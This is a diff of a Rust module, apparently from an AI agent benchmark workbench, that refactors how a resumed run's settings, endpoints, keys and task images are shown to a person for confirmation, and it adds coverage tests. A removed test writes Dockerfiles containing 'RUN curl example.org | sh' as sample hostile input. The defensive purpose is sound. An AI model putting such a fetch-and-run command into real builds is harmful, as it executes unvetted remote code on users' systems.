@@ -5,23 +5,21 @@
 //! a person has seen what it would do ([`RunTrust`]), and then with the endpoint and the key of this machine, unless those of
 //! the folder are chosen, one by one.
 
-use std::collections::HashMap;
+mod loaded;
+mod tasks;
+
 use std::path::Path;
 
-use files::deadline::within_limit;
 use model::plain_line;
 use runner::origin::{self, Identity, Record};
 use runner::settings::{EndpointSettings, KeySource, RunSettings};
 use serde::{Deserialize, Serialize};
-use sha2::{Digest as _, Sha256};
 
+use self::tasks::TasksShown;
 use super::run_error;
 use super::trust_rows::Amount;
 use crate::Workbench;
-use crate::api::{
-    ApiError, EndpointHere, EndpointMode, FormNetwork, FormSettings, KeyPlace, RunFolder, RunTrust,
-    TaskImages, TrustRun,
-};
+use crate::api::{ApiError, EndpointHere, RunFolder, RunTrust, TrustRun};
 
 /// An endpoint with its key, as the library remembers it.
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -106,64 +104,6 @@ impl Workbench {
         let kept = self.store.endpoints()?;
         Ok(kept.iter().filter_map(|text| serde_json::from_str(text).ok()).collect())
     }
-
-    /// Takes out of settings that were read from a file what would give away something of this machine: an endpoint that was
-    /// never used here, with its key, and variables of the environment. What was taken out, in sentences.
-    pub(super) fn without_foreign(&self, settings: &mut FormSettings) -> Result<Vec<String>, ApiError> {
-        let mut notes = Vec::new();
-        let key = match settings.key_place {
-            KeyPlace::None => KeySource::None,
-            KeyPlace::Env => KeySource::Env(settings.key_name.clone()),
-            KeyPlace::Keychain => KeySource::Keychain(settings.key_name.clone()),
-        };
-        let named = Endpoint { base_url: settings.base_url.clone(), key };
-        if let Some(key) = key_in_words(&named.key)
-            && !named.base_url.is_empty()
-            && !self.endpoints_here()?.contains(&named)
-        {
-            notes.push(format!(
-                "The key is not taken: the file names {key} for {}, which no run was begun with here. Choose the key yourself",
-                named.base_url
-            ));
-            settings.key_place = KeyPlace::None;
-            settings.key_name.clear();
-        }
-        let (kept, dropped): (Vec<String>, Vec<String>) =
-            std::mem::take(&mut settings.env_vars).into_iter().partition(|entry| entry.contains('='));
-        settings.env_vars = kept;
-        if !dropped.is_empty() {
-            notes.push(format!(
-                "Variables of this machine are not taken: the file hands {} to agents. Add them yourself",
-                dropped.join(", ")
-            ));
-        }
-        let shown = [
-            (settings.endpoint_mode == EndpointMode::Direct)
-                .then(|| "direct mode, in which agents get credentials of this machine".to_owned()),
-            (!settings.base_url.is_empty()
-                && settings.endpoint_mode == EndpointMode::Gateway
-                && !self.was_used_here(&settings.base_url)?)
-            .then(|| format!("the endpoint {}, which no run was begun with here", settings.base_url)),
-            (!settings.image.is_empty()).then(|| format!("the image {}", settings.image)),
-            (!settings.extra_docker_args.is_empty())
-                .then(|| format!("the container arguments {}", settings.extra_docker_args)),
-            (!settings.harness_file.is_empty())
-                .then(|| format!("the harness file {}", settings.harness_file)),
-            (settings.network == FormNetwork::Open)
-                .then(|| "the network open: agents reach the internet".to_owned()),
-            (!settings.env_vars.is_empty())
-                .then(|| format!("the variables {}", settings.env_vars.join(", "))),
-        ];
-        let shown: Vec<String> = shown.into_iter().flatten().map(|text| plain_line(&text)).collect();
-        if !shown.is_empty() {
-            notes.push(format!("The file sets {}", shown.join("; ")));
-        }
-        Ok(notes)
-    }
-
-    fn was_used_here(&self, base_url: &str) -> Result<bool, ApiError> {
-        Ok(self.endpoints_here()?.iter().any(|endpoint| endpoint.base_url == base_url))
-    }
 }
 
 fn stranger(folder: &Path) -> ApiError {
@@ -227,6 +167,7 @@ fn described(folder: &Path, record: Record, trusted: bool, here: Option<&Endpoin
         }
         .to_owned(),
         host_processes: !settings.use_docker,
+        limits: super::trust_rows::limits_in_words(&settings),
         scenarios: match (&settings.scenarios_dir, &settings.tasks) {
             (Some(pack), _) => Some(plain_line(&pack.display().to_string())),
             (None, Some(tasks)) => Some(plain_line(&format!(
@@ -248,80 +189,6 @@ fn described(folder: &Path, record: Record, trusted: bool, here: Option<&Endpoin
     };
     run.rows = super::trust_rows::rows(&run);
     run
-}
-
-/// Images of tasks that are listed.
-const TASK_IMAGES: usize = 200;
-
-/// What is shown of the tasks of a run.
-#[derive(Debug, Default, PartialEq)]
-struct TasksShown {
-    images: Vec<TaskImages>,
-    more: u32,
-    unreadable: Option<String>,
-    /// SHA-256 of all that was looked at, also of what is too much to be shown; `None` = no tasks are played.
-    sha256: Option<[u8; 32]>,
-}
-
-impl TasksShown {
-    /// Blocks, for at most [`files::deadline::LIMIT`].
-    fn new(settings: &RunSettings, numbers: &[u32]) -> Self {
-        let Some(tasks) = &settings.tasks else { return Self::default() };
-        let (folder, asked) = (tasks.folder.clone(), numbers.to_vec());
-        let looked = within_limit(&tasks.folder, move || {
-            runner::task_images(&folder, &asked).map_err(|error| error.to_string())
-        });
-        let found = match looked.unwrap_or_else(|error| Err(error.to_string())) {
-            Ok(found) => found,
-            Err(why) => {
-                let sha256 = Some(Sha256::digest(&why).into());
-                return Self { unreadable: Some(plain_line(&why)), sha256, ..Self::default() };
-            }
-        };
-        // Tasks of one benchmark mostly share a recipe.
-        let mut places: HashMap<(Option<String>, runner::Recipe), usize> = HashMap::new();
-        let mut hash = Sha256::new();
-        let mut shown = Self::default();
-        for one in found {
-            // Texts with their lengths, so that none runs into the next.
-            for text in [Some(&one.task), one.image.as_ref()] {
-                let length = text.map_or(u64::MAX, |text| text.len() as u64);
-                hash.update(length.to_le_bytes());
-                hash.update(text.map_or("", String::as_str));
-            }
-            hash.update(one.recipe_sha256);
-            let task = plain_line(&one.task);
-            let key = (one.image, one.recipe);
-            if let Some(at) = places.get(&key) {
-                if let Some(known) = shown.images.get_mut(*at) {
-                    known.tasks.push(task);
-                }
-                continue;
-            }
-            if shown.images.len() >= TASK_IMAGES {
-                shown.more += 1;
-                continue;
-            }
-            let plain = |texts: &[String]| texts.iter().map(|text| plain_line(text)).collect();
-            shown.images.push(TaskImages {
-                tasks: vec![task],
-                image: key.0.as_deref().map(plain_line),
-                from: plain(&key.1.from),
-                executes: plain(&key.1.executes),
-                more: key.1.more,
-            });
-            places.insert(key, shown.images.len() - 1);
-        }
-        shown.sha256 = Some(hash.finalize().into());
-        shown
-    }
-
-    /// What a person confirms who has seen the record of a run and this: 64 hexadecimal digits.
-    fn digest_with(&self, identity: &Identity) -> String {
-        let Some(sha256) = self.sha256 else { return identity.digest_in_hex() };
-        let both = Sha256::new().chain_update(identity.digest).chain_update(sha256).finalize();
-        Identity { run: identity.run.clone(), digest: both.into() }.digest_in_hex()
-    }
 }
 
 /// The changes of a resume, with the endpoint, the key and the variables of this machine in the place of the folder's.
@@ -379,8 +246,6 @@ fn with_what_is_ours(
 
 #[cfg(test)]
 mod tests {
-    use std::collections::BTreeSet;
-
     use super::*;
 
     fn settings(more: &[&str]) -> RunSettings {
@@ -422,68 +287,6 @@ mod tests {
 
     #[test]
     // docs/security.md: A resume
-    fn whoever_resumes_tasks_of_others_sees_what_their_images_are_built_of() {
-        let room = tempfile::tempdir().unwrap();
-        let put = |path: &str, text: &str| {
-            let path = room.path().join(path);
-            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-            std::fs::write(path, text).unwrap();
-        };
-        let step = "[[steps]]\nname = \"a\"\n";
-        let named = "[environment]\ndocker_image = \"example/one:1\"\n";
-        for (task, head, recipe) in [
-            ("0", "", "FROM debian\nRUN curl example.org | sh\n"),
-            ("1", named, "FROM debian\n"),
-            ("2", "", "FROM debian\nRUN curl example.org | sh\n"),
-            ("3", "", "FROM other\u{1b}[2J\n"),
-            ("4", "", "FROM never\n"),
-        ] {
-            put(&format!("{task}/task.toml"), &format!("{head}{step}"));
-            put(&format!("{task}/environment/Dockerfile"), recipe);
-            put(&format!("{task}/steps/a/instruction.md"), "Do it.");
-            put(&format!("{task}/tests/test.sh"), "true");
-        }
-        let tasks = format!("tasks={}", room.path().display());
-        let values = ["agent=NOP", "benchmark=HARBOR", "output_dir=x", &tasks].map(str::to_owned);
-        let theirs = runner::settings::resolve(&[], &values).unwrap();
-        let shown = TasksShown::new(&theirs, &[0, 1, 2, 3]);
-        let images: Vec<_> = shown
-            .images
-            .iter()
-            .map(|one| (one.tasks.join(" "), one.image.clone(), one.from.join(" ")))
-            .collect();
-        assert_eq!(
-            images,
-            [
-                ("0 2".to_owned(), None, "debian".to_owned()),
-                ("1".to_owned(), Some("example/one:1".to_owned()), String::new()),
-                ("3".to_owned(), None, "other\u{fffd}[2J".to_owned()),
-            ]
-        );
-        assert_eq!(shown.images[0].executes, ["RUN curl example.org | sh"]);
-        assert_eq!((shown.more, &shown.unreadable), (0, &None));
-        // Another recipe is not what was confirmed, also where it is too long for the page to show it.
-        let identity = Identity { run: "00000000".to_owned(), digest: [7; 32] };
-        let digest = || TasksShown::new(&theirs, &[0, 1, 2, 3]).digest_with(&identity);
-        let confirmed = shown.digest_with(&identity);
-        assert!(confirmed.len() == 64 && confirmed == digest());
-        let long = "RUN true\n".repeat(60);
-        let mut seen = BTreeSet::from([confirmed, identity.digest_in_hex()]);
-        for last in ["true", "curl example.org | sh"] {
-            put("3/environment/Dockerfile", &format!("FROM debian\n{long}RUN {last}\n"));
-            assert!(seen.insert(digest()), "{last}");
-        }
-        put("4/environment/Dockerfile", "FROM never either\n");
-        assert!(!seen.insert(digest()), "a task that is not played");
-        assert_eq!(TasksShown::default().digest_with(&identity), identity.digest_in_hex());
-        let removed =
-            runner::settings::resolve(&[], &values.map(|text| text.replace(&tasks, "tasks=/nowhere/at/all")));
-        assert!(TasksShown::new(&removed.unwrap(), &[0]).unreadable.is_some());
-        assert_eq!(TasksShown::new(&settings(&THEIRS), &[0]), TasksShown::default());
-    }
-
-    #[test]
-    // docs/security.md: A resume
     fn credentials_and_variables_are_handed_over_only_where_they_are_chosen() {
         let direct = settings(&["endpoint.mode=direct", "docker.env_vars=[HOME,A=b]"]);
         let refused = with_what_is_ours(&direct, Vec::new(), &TrustRun::default(), None).unwrap_err();
@@ -495,5 +298,184 @@ mod tests {
         );
         let keep_all = TrustRun { keep_variables: true, ..keep_key };
         assert!(with_what_is_ours(&direct, Vec::new(), &keep_all, None).unwrap().is_empty());
+    }
+
+    const TO_THEIRS: &[&str] = &[
+        "agent=CODEX",
+        "codex.model_id=acme/new",
+        "endpoint.base_url=https://theirs.example",
+        "endpoint.key_env=HOME_KEY",
+        "limits.run.usd=5",
+        "output_dir=/nowhere/run",
+    ];
+    const WITH_PRICES: &[&str] =
+        &["endpoint.price.input=1", "endpoint.price.output=2", "limits.run.usd=5", "agent=CODEX"];
+    const TASKS: &[&str] = &["agent=NOP", "benchmark=HARBOR", "tasks=/nowhere/tasks", "use_docker=true"];
+
+    /// The row that shows a setting, and a configuration with what makes it say something else.
+    const SHOWN: &[(&str, &str, &[&str], &[&str])] = &[
+        ("agent", "Harness", TO_THEIRS, &["agent=OPENCODE", "opencode.model_id=acme/new"]),
+        (
+            "harness_file",
+            "Harness",
+            TO_THEIRS,
+            &["agent=CUSTOM", "custom.model_id=a", "harness_file=/h.toml"],
+        ),
+        ("image", "Image", TO_THEIRS, &["docker.image_name=example/other:1"]),
+        (
+            "endpoint_mode",
+            "Endpoint",
+            &["endpoint.mode=direct"],
+            &["endpoint.mode=gateway", "endpoint.base_url=http://x"],
+        ),
+        ("base_url", "Endpoint", TO_THEIRS, &["endpoint.base_url=https://another.example"]),
+        ("model", "Model", TO_THEIRS, &["codex.model_id=acme/other"]),
+        ("key_name", "Key", TO_THEIRS, &["endpoint.key_env=OTHER_KEY"]),
+        ("price_input", "Budget", WITH_PRICES, &["endpoint.price.input=0"]),
+        ("price_output", "Budget", WITH_PRICES, &["endpoint.price.output=0"]),
+        ("price_cached", "Budget", WITH_PRICES, &["endpoint.price.cached=0"]),
+        ("price_cache_write", "Budget", WITH_PRICES, &["endpoint.price.cache_write=0"]),
+        ("price_per_hour", "Budget", TO_THEIRS, &["endpoint.price.per_hour=0.01"]),
+        ("source", "Scenarios", &["agent=CODEX"], &["benchmark=HARBOR", "tasks=/nowhere/tasks"]),
+        ("tasks", "Scenarios", TASKS, &["tasks=/nowhere/others"]),
+        ("protocol", "Plays", TASKS, &["harbor.protocol=mt_at_k"]),
+        ("scenarios_dir", "Scenarios", TO_THEIRS, &["scenarios_dir=/nowhere/pack"]),
+        ("n_scenarios", "Plays", TO_THEIRS, &["restful_server_gen_iterative.n_scenarios=900"]),
+        ("n_turns", "Plays", TO_THEIRS, &["restful_server_gen_iterative.n_turns=900"]),
+        (
+            "execute_episodes",
+            "Plays",
+            TO_THEIRS,
+            &["restful_server_gen_iterative.execute_episodes=[1,3,5,7,9,11,13]"],
+        ),
+        ("quick_debug", "Plays", TO_THEIRS, &["quick_debug=true"]),
+        ("attempt_limit", "Plays", TO_THEIRS, &["restful_server_gen_iterative.attempt_limit=900"]),
+        ("batch_size", "Plays", TO_THEIRS, &["batch_size=900"]),
+        ("restore_before_try", "Plays", TASKS, &["restore_before_try=true"]),
+        ("task_snapshots", "Plays", TASKS, &["harbor.snapshots=each_step"]),
+        ("use_docker", "Processes here", &["agent=MOCK", "use_docker=true"], &["use_docker=false"]),
+        ("attempt_minutes", "Limits", TO_THEIRS, &["limits.attempt_minutes=90000"]),
+        ("cpus", "Limits", TO_THEIRS, &["limits.cpus=900"]),
+        ("memory_gib", "Limits", TO_THEIRS, &["limits.memory_gib=900"]),
+        ("disk_gib", "Limits", TO_THEIRS, &["limits.disk_gib=900"]),
+        ("pids", "Limits", TO_THEIRS, &["limits.pids=900000"]),
+        ("network", "Network", TO_THEIRS, &["limits.network=open"]),
+        ("attempt_tokens", "Budget", TO_THEIRS, &["limits.attempt.tokens=9"]),
+        ("attempt_usd", "Budget", TO_THEIRS, &["limits.attempt.usd=9"]),
+        ("attempt_wall_minutes", "Budget", TO_THEIRS, &["limits.attempt.minutes=9"]),
+        ("episode_tokens", "Budget", TO_THEIRS, &["limits.episode.tokens=9"]),
+        ("episode_usd", "Budget", TO_THEIRS, &["limits.episode.usd=9"]),
+        ("episode_minutes", "Budget", TO_THEIRS, &["limits.episode.minutes=9"]),
+        ("run_tokens", "Budget", TO_THEIRS, &["limits.run.tokens=9"]),
+        ("run_usd", "Budget", TO_THEIRS, &["limits.run.usd=9"]),
+        ("run_minutes", "Budget", TO_THEIRS, &["limits.run.minutes=9"]),
+        ("output_dir", "Writes in", TO_THEIRS, &["output_dir=/nowhere/else"]),
+        ("env_vars", "Variables set", TO_THEIRS, &["docker.env_vars=[A=b]"]),
+        (
+            "extra_docker_args",
+            "Bound folders",
+            TO_THEIRS,
+            &["docker.extra_docker_args=-v /opt/data:/data:ro"],
+        ),
+    ];
+
+    /// Settings that reach nothing of this machine, beyond what rows say, with why.
+    const NOT_SHOWN: &[(&str, &[&str])] = &[
+        ("a number that the harness gets", &["context_window"]),
+        (
+            "what feedback an agent gets and how a turn is graded, within attempts, budgets and limits",
+            &["feedback", "fail_stop", "task_timeout", "task_background", "task_session"],
+        ),
+        ("which scenarios were generated", &["base_seed", "num_changes_per_turn"]),
+        (
+            "what samples scenarios before a run begins; a resume samples none",
+            &[
+                "use_llm_sampler",
+                "llm_sampler_model_id",
+                "sampler_base_url",
+                "sampler_key_variable",
+                "sampler_region",
+                "sampler_endpoint_url",
+                "sampler_seconds",
+                "sampler_calls",
+            ],
+        ),
+        ("what is kept in the folder of the run", &["tags", "keep_snapshots"]),
+        (
+            "what the simulated model does, which is part of this program",
+            &[
+                "oracle_seed",
+                "oracle_defect_rate",
+                "oracle_most_defects",
+                "oracle_repair",
+                "oracle_carries_over",
+                "oracle_stack",
+                "oracle_stall",
+                "oracle_overflow",
+                "oracle_malformed",
+                "oracle_kill",
+                "oracle_give_up",
+            ],
+        ),
+    ];
+
+    /// What the rows of a name say of a run with these settings; of two for one key the later one holds.
+    fn values_of(name: &str, base: &[&str], changes: &[&str]) -> Vec<String> {
+        let key = |value: &str| value.split('=').next().unwrap_or_default().to_owned();
+        let changed: Vec<String> = changes.iter().map(|change| key(change)).collect();
+        let mut values: Vec<String> = base
+            .iter()
+            .filter(|value| !changed.contains(&key(value)))
+            .chain(changes)
+            .map(|&value| value.to_owned())
+            .collect();
+        if !values.iter().any(|value| value.starts_with("output_dir=")) {
+            values.push("output_dir=/nowhere/run".to_owned());
+        }
+        if values.contains(&"agent=CODEX".to_owned()) {
+            let needed = ["codex.model_id=acme/new", "endpoint.base_url=https://theirs.example"];
+            let missing = needed.iter().filter(|value| !values.iter().any(|given| key(given) == key(value)));
+            let missing: Vec<String> = missing.map(|&value| value.to_owned()).collect();
+            values.extend(missing);
+        }
+        if !values.iter().any(|value| value.starts_with("agent=")) {
+            values.extend(["agent=CODEX", "codex.model_id=acme/new"].map(str::to_owned));
+        }
+        let settings = runner::settings::resolve(&[], &values).unwrap();
+        // As a record plans what its settings ask for.
+        let generation = &settings.generation;
+        let (asked, turns) =
+            if settings.quick_debug { (2, 2) } else { (generation.n_scenarios, generation.n_turns) };
+        let episodes = &settings.execute_episodes;
+        let scenarios: Vec<u32> = if episodes.is_empty() { (0..asked).collect() } else { episodes.clone() };
+        let record = Record {
+            identity: Identity { run: "00000000".to_owned(), digest: [7; 32] },
+            harness: settings.agent.clone(),
+            image: settings.image.clone().unwrap_or_default(),
+            turns: scenarios.len() as u64 * u64::from(turns),
+            scenarios,
+            settings,
+        };
+        let folder = record.settings.output_dir.clone();
+        let rows = described(&folder, record, false, None).rows;
+        rows.into_iter().filter(|row| row.name == name).map(|row| row.value).collect()
+    }
+
+    #[test]
+    // docs/security.md: A resume
+    fn everything_that_the_folder_decides_has_a_line() {
+        for setting in settings::all() {
+            // A question of the form has no key that a folder could carry.
+            if matches!(setting.key, settings::KeyName::OfForm(..)) {
+                continue;
+            }
+            let shown = SHOWN.iter().filter(|(field, ..)| *field == setting.field).count();
+            let reasons = NOT_SHOWN.iter().filter(|(_, fields)| fields.contains(&setting.field)).count();
+            assert_eq!(shown + reasons, 1, "{}: which row shows it, or why does none?", setting.field);
+        }
+        for (field, name, base, changes) in SHOWN {
+            let (before, after) = (values_of(name, base, &[]), values_of(name, base, changes));
+            assert!(!after.is_empty() && before != after, "{field}: {name} says {after:?} either way");
+        }
     }
 }
